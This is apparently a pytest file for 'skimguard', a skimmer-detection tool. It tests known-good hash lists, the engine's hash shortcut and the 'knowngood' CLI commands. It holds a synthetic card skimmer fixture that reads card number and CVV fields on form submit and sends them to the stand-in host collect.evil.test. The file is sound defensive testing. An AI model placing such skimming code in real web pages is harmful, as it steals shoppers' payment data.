"""Known-good hashes: the packaged lists, combining them with the store's, the engine's shortcut,
and the ``skimguard knowngood`` commands (plus ``analyze`` using them)."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from skimguard.analyze import engine
from skimguard.analyze.engine import Options, analyze_bytes
from skimguard.analyze.known_good import known_good_set, packaged_lists, parse_list
from skimguard.analyze.model import Verdict
from skimguard.cli import app
from skimguard.store import Store

DATA = Path(engine.__file__).resolve().parent / "known_good"
NPM_JQUERY = Path(__file__).resolve().parent / "npm" / "node_modules" / "jquery"
# sha256 of jQuery 3.7.1's dist/jquery.min.js (its published SRI is sha256-/JqT3SQfawRc...).
JQUERY_371_MIN = "fc9a93dd241f6b045cbff0481cf4e1901becd0e12fb45166a8f17f95823f0b1a"
JQUERY_371 = "78a85aca2f0b110c29e0d2b137e09f0a1fb7a8e554b499f740d6744dc8962cfe"

# Synthetic skimmer: reads the card fields on submit and beacons them to a foreign host.
SKIMMER = b"""document.addEventListener("submit", function () {
  var card = document.querySelector("input[name='cc_number']").value;
  var cvv = document.querySelector("input[name='cc_cid']").value;
  var data = btoa(JSON.stringify({ n: card, c: cvv, h: location.host }));
  new Image().src = "https://collect.evil.test/g.php?d=" + data;
});
"""
SKIMMER_SHA = hashlib.sha256(SKIMMER).hexdigest()
A = "a" * 64


# ---------------------------------------------------------------------------------- lists


def test_parse_list_comments_case_and_the_most_direct_name() -> None:
    text = (
        "# a comment\n\n"
        f"{A.upper()}\tjquery-ui-dist@1.13.3/external/jquery/jquery.js\n"
        f"{A}\tjquery@3.7.1/dist/jquery.js\n"
        f"{'b' * 64}\t lib@1.0.0/lib.js \n"
    )
    assert parse_list(text) == {A: "jquery@3.7.1/dist/jquery.js", "b" * 64: "lib@1.0.0/lib.js"}


@pytest.mark.parametrize(
    "line", [f"{A} lib@1/a.js", f"{A}\t", f"{'g' * 64}\tlib@1/a.js", f"{A[:-1]}\tlib@1/a.js", "lib@1/a.js"]
)
def test_parse_list_rejects_a_bad_line_with_its_number(line: str) -> None:
    with pytest.raises(ValueError, match=r"^mine\.tsv:3: expected sha256<TAB>package@version/path"):
        parse_list(f"# x\n{'c' * 64}\tok@1/ok.js\n{line}\n", "mine.tsv")


def test_packaged_list_has_jquery_371_under_its_own_name() -> None:
    packaged = packaged_lists()
    assert packaged[JQUERY_371_MIN] == "jquery@3.7.1/dist/jquery.min.js"
    # jquery-ui-dist ships the same bytes as external/jquery/jquery.js: the direct name wins.
    assert packaged[JQUERY_371] == "jquery@3.7.1/dist/jquery.js"
    if NPM_JQUERY.is_dir():  # cross-check with the installed release (tests/analyze/npm)
        installed = (NPM_JQUERY / "dist" / "jquery.min.js").read_bytes()
        assert hashlib.sha256(installed).hexdigest() == JQUERY_371_MIN


def test_packaged_tsv_is_in_step_with_its_package_list() -> None:
    tsv = (DATA / "npm.tsv").read_text("utf-8")
    assert len(tsv.encode()) < 1024 * 1024
    lines = [line.split("\t") for line in tsv.splitlines() if not line.startswith("#")]
    names = [name for _, name in lines]
    assert names == sorted(names)
    header = tsv.splitlines()[1]  # "# N releases, N files, N distinct. ..."
    releases, files, distinct = (int(part.split()[0]) for part in header[2:].split(". ")[0].split(", "))
    assert (files, distinct) == (len(lines), len({d for d, _ in lines}))
    assert distinct == len(packaged_lists())
    specs = [
        line.split()[0]
        for line in (DATA / "packages.txt").read_text("utf-8").splitlines()
        if line.strip() and not line.startswith("#")
    ]
    assert releases == len(specs)
    assert set(specs) == {n[: n.index("/", n.index("@", 1))] for n in names}
    assert not [n for n in names if "/test/" in n or n.lower().endswith("gruntfile.js")]


def test_known_good_set_adds_the_store_to_the_packaged_lists() -> None:
    packaged = known_good_set()
    assert JQUERY_371_MIN in packaged and A not in packaged
    combined = known_good_set({A.upper(): ("manual", "our bundle")})
    assert combined == packaged | {A}
    assert known_good_set([A]) == combined
    assert known_good_set() is packaged  # loaded once


# ---------------------------------------------------------------------------------- engine


def test_known_good_file_is_clean_without_analysis(monkeypatch: pytest.MonkeyPatch) -> None:
    assert analyze_bytes(SKIMMER, "skim.js").verdict is Verdict.MALICIOUS

    def no_analysis(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("a known-good file must not be analysed")

    monkeypatch.setattr(engine, "analyze_text", no_analysis)
    verdict = analyze_bytes(SKIMMER, "skim.js", Options(known_good=known_good_set([SKIMMER_SHA])))
    assert (verdict.verdict, verdict.score, verdict.hits, verdict.problems) == (
        Verdict.CLEAN,
        0,
        (),
        ("known good (by hash)",),
    )
    assert verdict.sha256 == SKIMMER_SHA


def test_a_library_with_one_byte_changed_is_analysed() -> None:
    if not NPM_JQUERY.is_dir():
        pytest.skip("needs tests/analyze/npm/node_modules (./scripts/setup)")
    jquery = (NPM_JQUERY / "dist" / "jquery.min.js").read_bytes()
    options = Options(known_good=known_good_set())
    assert analyze_bytes(jquery, "jquery.min.js", options).problems == ("known good (by hash)",)
    tampered = jquery + b"\n" + SKIMMER
    verdict = analyze_bytes(tampered, "jquery.min.js", options)
    assert verdict.verdict is Verdict.MALICIOUS
    assert "known good (by hash)" not in verdict.problems


# ---------------------------------------------------------------------------------- CLI


def run(*args: str) -> Result:
    return CliRunner().invoke(app, list(args), env={"SKIMGUARD_CONFIG": None})


def error_line(result: Result) -> str:
    assert result.exit_code == 2, (result.stdout, result.stderr)
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("skimguard: error: "), result.stderr
    return lines[0]


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "skimguard.yaml"
    assert run("init", str(path)).exit_code == 0
    return path


def test_cli_add_list_remove_and_analyze(config: Path, tmp_path: Path) -> None:
    skim = tmp_path / "skim.js"
    skim.write_bytes(SKIMMER)
    result = run("knowngood", "add", str(skim), A.upper(), "--note", "lab sample", "-c", str(config), "--by", "eve")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == [f"{SKIMMER_SHA}  {skim}", A, "known good: 2 added, 0 updated"]
    again = run("knowngood", "add", A, "--note", "renamed", "-c", str(config))
    assert again.stdout.splitlines()[-1] == "known good: 0 added, 1 updated"

    listed = json.loads(run("knowngood", "list", "-c", str(config), "--format", "json").stdout)
    assert listed == [
        {"sha256": SKIMMER_SHA, "source": "manual", "note": "lab sample"},
        {"sha256": A, "source": "manual", "note": "renamed"},
    ]
    with Store.open(f"sqlite:///{tmp_path / 'skimguard.db'}") as store:
        assert [(a.action, a.actor) for a in store.audit("*")][-1] == ("known-good-add", "eve")

    # analyze: the packaged lists always apply, the database's only with --config.
    alone = json.loads(run("analyze", str(skim), "--format", "json").stdout)
    assert alone["files"][0]["verdict"] == "malicious"
    vouched = run("analyze", str(skim), "--format", "json", "-c", str(config))
    assert vouched.exit_code == 0
    assert json.loads(vouched.stdout)["files"][0]["verdict"] == "clean"

    removed = run("knowngood", "remove", SKIMMER_SHA, "-c", str(config))
    assert removed.stdout.strip() == f"{SKIMMER_SHA} is no longer known good"
    assert run("analyze", str(skim), "-c", str(config)).exit_code == 1
    gone = run("knowngood", "remove", SKIMMER_SHA, "-c", str(config))
    assert "is not known good in this database" in error_line(gone)


def test_cli_errors_are_one_line(config: Path, tmp_path: Path) -> None:
    assert "--note is required" in error_line(run("knowngood", "add", A, "-c", str(config)))
    assert "nope.js: no such file, and not a sha256" in error_line(
        run("knowngood", "add", str(tmp_path / "nope.js"), "--note", "x", "-c", str(config))
    )
    assert "is a directory" in error_line(run("knowngood", "add", str(tmp_path), "--note", "x", "-c", str(config)))
    assert "not a sha256: 'xyz'" in error_line(run("knowngood", "remove", "xyz", "-c", str(config)))
    packaged = error_line(run("knowngood", "remove", JQUERY_371_MIN, "-c", str(config)))
    assert "is jquery@3.7.1/dist/jquery.min.js, on a list packaged with skimguard" in packaged


def test_cli_import_and_list_packaged(config: Path, tmp_path: Path) -> None:
    listing = tmp_path / "vendor-bundles.tsv"
    listing.write_text(f"# our builds\n{A}\tcheckout@2.1/app.js\n{'b' * 64}\tcheckout@2.1/vendor.js\n", "utf-8")
    result = run("knowngood", "import", str(listing), "-c", str(config))
    assert result.stdout.strip() == "known good vendor-bundles: 2 hash(es), 2 added, 0 updated"
    listed = json.loads(run("knowngood", "list", "-c", str(config), "-f", "json").stdout)
    assert listed == [
        {"sha256": A, "source": "vendor-bundles", "note": "checkout@2.1/app.js"},
        {"sha256": "b" * 64, "source": "vendor-bundles", "note": "checkout@2.1/vendor.js"},
    ]
    listing.write_text(f"{A} no tab\n", "utf-8")
    assert ":1: expected sha256<TAB>package@version/path" in error_line(
        run("knowngood", "import", str(listing), "-c", str(config))
    )
    packaged = json.loads(run("knowngood", "list", "--packaged", "-f", "json").stdout)
    assert len(packaged) == len(packaged_lists())
    assert {"sha256": JQUERY_371_MIN, "source": "packaged", "note": "jquery@3.7.1/dist/jquery.min.js"} in packaged
